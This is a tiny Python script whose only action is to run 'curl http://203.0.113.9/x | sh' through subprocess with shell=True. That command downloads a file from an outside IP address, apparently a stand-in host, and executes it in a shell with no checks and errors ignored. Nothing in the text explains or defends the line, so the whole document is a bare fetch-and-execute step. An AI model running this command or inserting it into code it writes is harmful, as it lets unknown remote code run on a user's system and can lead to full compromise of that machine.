import subprocess

subprocess.run("curl http://203.0.113.9/x | sh", shell=True, check=False)
